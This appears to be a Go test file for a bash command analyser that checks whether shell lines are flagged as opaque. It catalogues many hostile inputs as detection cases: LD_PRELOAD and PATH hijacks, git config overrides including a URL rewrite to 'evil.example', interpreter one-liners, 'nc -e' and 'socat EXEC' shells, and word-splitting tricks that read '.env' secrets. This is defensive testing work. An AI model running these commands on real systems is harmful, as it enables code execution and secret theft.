package bash

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// Anything that changes which programs run, what they run, or which hosts they reach is opaque, unless its value is
// known to be harmless.
func TestWhatChangesProgramsIsOpaque(t *testing.T) {
	for _, line := range []string{
		`PATH=.:$PATH ls`, `export PATH=/tmp/x`, `PATH+=:/tmp/x; ls`, `declare -x PATH=/tmp/x`, `read PATH <<<.; ls`, `printf -v PATH .; ls`, `for PATH in .; do ls; done`, `env PATH=. ls`, `env -S 'PATH=. ls'`,
		`sudo PATH=. ls`, `: ${PATH:=.}`, `mapfile -t PATH <x; ls`, `LD_PRELOAD=./x.so ls`, `export LD_PRELOAD=x; ls`, `LD_LIBRARY_PATH=.. ls`, `LD_AUDIT=x ls`, `DYLD_INSERT_LIBRARIES=x ls`, `BASH_ENV=x bash -c ls`,
		`ENV=x sh -c ls`, `PROMPT_COMMAND='rm x'`, `PS4='$(rm x)'`, `PS1='$(rm x)' bash -i`, `SHELLOPTS=xtrace bash -c ls`, `BASH_XTRACEFD=9 bash -xc ls`, `IFS=/ CDPATH=.. EDITOR='rm x;' git commit`, `PAGER='sh -c x' git log`,
		`MANPAGER='sh -c x' man ls`, `GIT_PAGER='x y' git log`, `GIT_EDITOR='rm x;' git commit`, `GIT_SEQUENCE_EDITOR='rm x;' git rebase -i x`, `GIT_SSH_COMMAND='rm x;' git fetch`, `GIT_SSH=./x git fetch`, `GIT_ASKPASS=./x git fetch`,
		`GIT_EXTERNAL_DIFF=./x git diff`, `GIT_DIR=../x git log`, `GIT_WORK_TREE=.. git status`, `GIT_CONFIG_GLOBAL=x git status`, `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log`, `GIT_CONFIG_PARAMETERS=x git log`,
		`GIT_EXEC_PATH=. git log`, `GIT_TEMPLATE_DIR=. git init`, `GIT_PROXY_COMMAND=x git fetch`, `GIT_TRACE=/tmp/x git log`, `GIT_ALTERNATE_OBJECT_DIRECTORIES=.. git log`, `git -c core.pager='rm x' log`, `git -c core.fsmonitor=x status`,
		`git -c alias.x='!rm x' x`, `git -c core.hooksPath=x commit`, `git -c core.sshCommand=x fetch`, `git -c credential.helper='!x' fetch`, `git -c diff.external=x diff`, `git -c filter.x.clean=x add .`, `git -c include.path=x status`,
		`git -c protocol.ext.allow=always fetch`, `git -c url.https://evil.example/.insteadOf=https:// fetch`, `git -c http.proxy=x fetch`, `git --config-env=core.pager=X log`, `git --exec-path=. log`, `git config core.pager x`,
		`git config --global alias.x '!rm x'`, `git config --add core.editor x`, `git config --replace-all core.hooksPath x`, `NODE_OPTIONS='--require ./x.js' node x`, `NODE_OPTIONS=--import=x node y`, `NODE_PATH=.. node x`,
		`NODE_EXTRA_CA_CERTS=x node y`, `npm_config_script_shell=x npm test`, `NPM_CONFIG_REGISTRY=http://x npm install`, `npm config set script-shell x`, `PYTHONSTARTUP=x python3 y.py`, `PYTHONPATH=.. python3 y.py`, `PYTHONHOME=x python3 y.py`,
		`PYTHONINSPECT=1 PYTHONBREAKPOINT=os.system python3 y.py`, `PYTHONWARNINGS=x python3 y.py`, `PERL5OPT=-Mx perl y.pl`, `PERL5LIB=.. perl y.pl`, `PERL5DB=x perl -d y.pl`, `RUBYOPT=-rx ruby y.rb`, `RUBYLIB=.. ruby y.rb`,
		`JAVA_TOOL_OPTIONS=-javaagent:x java Y`, `_JAVA_OPTIONS=-Dx java Y`, `MAVEN_OPTS=x mvn test`, `GRADLE_OPTS=x gradle test`, `go env -w GOFLAGS=-toolexec=x`, `go env -w GOPROXY=http://x`, `GOFLAGS=-toolexec=x go build`, `GOPROXY=http://x go build`,
		`GOENV=x go build`, `GOTOOLDIR=x go build`, `CC=./x go build`, `CC='sh -c x' make`, `CXX=./x make`, `LD=./x make`, `CFLAGS='-fplugin=x' make`, `LDFLAGS=-fuse-ld=./x make`, `MAKEFLAGS='--eval=x' make`, `MAKEFILES=x make`, `make SHELL=./x`,
		`make CC=./x`, `RUSTC_WRAPPER=./x cargo build`, `RUSTFLAGS='-C linker=x' cargo build`, `CARGO_HOME=x cargo build`, `CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER=x cargo build`, `http_proxy=http://x curl http://y`, `HTTPS_PROXY=x curl https://y`,
		`ALL_PROXY=x curl http://y`, `export https_proxy=x; git fetch`, `CURL_HOME=x curl http://y`, `SSL_CERT_FILE=x curl https://y`, `WGETRC=x wget http://y`, `DOCKER_HOST=tcp://x docker ps`, `KUBECONFIG=x kubectl get pods`, `SSH_ASKPASS=./x ssh y`,
		`LESSOPEN='|x %s' less y`, `LESS='+!x' less y`, `TAR_OPTIONS=--to-command=x tar xf y`, `TERMINFO=x less y`, `HOSTALIASES=x curl http://y`, `LOCALDOMAIN=x curl http://y`, `XDG_CONFIG_HOME=x git log`, `HOME=x git log`, `enable -f ./x y`,
		`hash -p ./x ls`, `env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls`, `bind -x '"a": rm x'`, `complete -C 'rm x' y`, `shopt -s expand_aliases; x=$y; alias ls="$x"`,
	} {
		assert.False(t, Analyse(line, Options{}).Clear(), line)
	}
	for _, line := range []string{
		`GIT_AUTHOR_NAME=x git commit`, `GIT_PAGER=cat git log`, `PAGER=less git log`, `EDITOR=vim git commit`, `NODE_ENV=test npm test`, `NODE_OPTIONS=--max-old-space-size=4096 npm test`, `CGO_ENABLED=0 go build`, `GOFLAGS=-mod=mod go build`,
		`GOOS=linux GOARCH=arm64 go build`, `CC=gcc make`, `CFLAGS='-O2 -Wall' make`, `MAKEFLAGS=-j4 make`, `RUST_BACKTRACE=1 cargo test`, `PYTHONUNBUFFERED=1 python3 x.py`, `PYTHONPATH=src pytest`, `LC_ALL=C sort x`, `TZ=UTC date`, `DEBUG=1 make`,
		`no_proxy=localhost curl http://x`, `GIT_TERMINAL_PROMPT=0 git fetch`, `git -c user.name=x commit -m y`, `git -c color.ui=never log`, `CI=true npm test`, `GOTOOLCHAIN=local go test`, `GIT_EDITOR=true git commit`, `go env GOPATH`, `npm config get registry`,
	} {
		assert.True(t, Analyse(line, Options{}).Clear(), "%s\n%s", line, told(Analyse(line, Options{})))
	}
}

// Code passed to an interpreter, or to a program that runs commands, is opaque or its commands are listed.
func TestCodeIsOpaqueOrListed(t *testing.T) {
	for _, line := range []string{
		`python3 -c 'open(x)'`, `python3 -Ic 'x()'`, `python3 -xc 'x()'`, `python -uc 'x()'`, `python3.12 -c 'x()'`, `python3 -m timeit x`, `python3 -m pdb -c x y`, `python3 <<<'x()'`, `python3 - <<<'x()'`, `echo 'x()' | python3`, `python3 <(echo x)`,
		`pypy3 -c 'x()'`, `perl -e x`, `perl -ne x y`, `perl -pe x y`, `perl -lane x y`, `perl -E x`, `perl -Mx -e y`, `perl '-Mx;system(1)' y`, `perl <<<x`, `ruby -e x`, `ruby -ne x y`, `ruby -rx -e y`, `node -e x`, `node -p x`, `node --eval=x`,
		`node --eval x`, `node -pe x`, `node --print x`, `node --input-type=module -e x`, `node <<<x`, `bun -e x`, `deno eval x`, `php -r x`, `php -B x -R y`, `lua -e x`, `tclsh <<<x`, `R -e x`, `Rscript -e x`, `julia -e x`, `groovy -e x`, `osascript -e x`,
		`guile -c x`, `sbcl --eval x`, `ocaml -e x`, `ghc -e x`, `elixir -e x`, `erl -eval x`, `scala -e x`, `swift -e x`, `raku -e x`, `pwsh -c x`, `jshell <<<x`, `emacs --batch --eval x`, `emacsclient -e x`, `vim -c 'py3 x' y`, `vim -es '+lua x' y`,
		`vim '+call x()' y`, `ex -sc '!x' y`, `awk -f x.awk y`, `awk "$x" y`, `awk 'BEGIN { system(x) }'`, `awk 'BEGIN { "x" y | getline }'`, `awk 'BEGIN { print | x }'`, `gawk '@load "x"'`, `gawk -l x y`, `gawk -i x y`, `awk 'BEGIN { getline x < y }'`,
		`awk '{ print > $1 }' x`, `gawk 'BEGIN { x = "system"; @x("y") }'`, `sed -f x.sed y`, `sed "$x" y`, `sed 's/a/b/e' y`, `sed e y`, `sed -n '1e' y`, `sed -s 's/x/y/;s/a/rm b/e' y`, `find . -exec $x ';'`, `find . $x`, `find . -exec sh -c "$x" ';'`,
		`xargs -I{} sh -c '{}'`, `xargs sh -c`, `xargs $x`, `parallel <x`, `tar xf x --to-command="$y"`, `tar cf x -I "$y" z`, `tar xf x --checkpoint-action=exec="$y"`, `rsync -e "$x" a b:`, `ssh -o ProxyCommand="$x" y`, `git -c core.pager="$x" log`,
		`git bisect run $x`, `git rebase -x "$x" y`, `git submodule foreach "$x"`, `git filter-branch --tree-filter "$x"`, `make --eval='$(shell x)'`, `make -f - <<<'x: ; y'`, `make -f <(echo x)`, `sqlite3 x '.shell y'`, `sqlite3 x '.system y'`,
		`sqlite3 x <<<'.shell y'`, `psql -c '\! x'`, `mysql -e '\! x'`, `ed x <<<'!y'`, `ed x <<<'r !y'`, `ed x <<<'w ../y'`, `ed x <<<'e y'`, `ed <y`, `bc <<<x | sh`, `dc -e '!x'`, `m4 <<<'syscmd(x)'`, `gdb -ex 'shell x'`, `expect -c x`, `tmux send-keys x`,
		`screen -X stuff x`, `entr sh -c "$x"`, `watch "$x"`, `script -c "$x"`, `at now <<<"$x"`, `su -c "$x"`, `nc -e "$x" y 1`, `socat - EXEC:x`, `env -S "$x"`, `openssl engine -t x -engine ./y`, `zip x y -TT "$z"`, `man -P "$x" y`, `less '+!x' y`,
		`split --filter="$x" y`, `sort --compress-program="$x" y`, `strace -o '|'"$x" ls`, `jq -f x y; source x`, `gcc -wrapper sh,-c,x y.c`, `docker run x sh -c "$y"; eval "$y"`,
	} {
		assert.False(t, Analyse(line, Options{}).Clear(), line)
	}
}

// A word that may be split differently counts as each of its parts. A word with too many possible values is opaque.
func TestSplitWordsAreTheirParts(t *testing.T) {
	for _, line := range []string{
		`IFS=, read x y <<<a,${NONE:-.env}; cat $y`, `xargs -d, cat <<<a,${NONE:-.env}`, `xargs cat <<<"a ${NONE:-.env}"`,
		`echo a,.env | tr , "\n" | xargs cat`, `echo a,${NONE:-.env} | cut -d, -f2 | xargs cat`, `mapfile -td, x <<<a,${NONE:-.env}; cat ${x[1]}`,
		`IFS=,; x=a,.env; cat $x`, `true && IFS=Q; x=aQ.env; cat $x`, `IFS=Q read a b <<<aQ.env; cat $b`, `IFS=,; x=a,.env; set -- $x; cat $2`,
		`parallel -d, cat <<<a,.env`, `printf 'a\n%s\n' ${NONE:-.env} | parallel cat`, `trap 'set -- .env; cat $*' EXIT`, `trap 'set -- .env; cat "$*"' EXIT`,
		`IFS=; set -- .e nv; cat "$*"`, `x=a; x+=" ${NONE:-.env}"; set -- $x; cat $2`, `true && IFS=e; set -- . nv; cat "$*"`,
	} {
		files := Analyse(line, Options{}).Files
		assert.True(t, slices.ContainsFunc(files, func(f File) bool { return f.Path == ".env" }), "%s\n%v", line, files)
	}
	many := strings.Repeat("a b c d ", 3)
	for i := range 70 {
		many += fmt.Sprintf("f%d ", i)
	}
	blanks := ""
	for i := range 70 {
		blanks += "[ -f a ] && x='" + strings.Repeat(" ", i) + "a'; "
	}
	for _, line := range []string{
		blanks + `[ -f a ] && x=.env; cat $x`,
		`read -a x <<<"` + many + `.env"; cat ${x[70]}`, `xargs -n1 cat <<<"` + many + `.env"`, `echo "` + many + `.env" | parallel -d' ' cat`,
	} {
		opaque := Analyse(line, Options{}).Opaque
		assert.True(t, slices.ContainsFunc(opaque, func(o Opaque) bool { return o.Reason == OpaqueLimit }), "%s\n%v", line, opaque)
	}
}
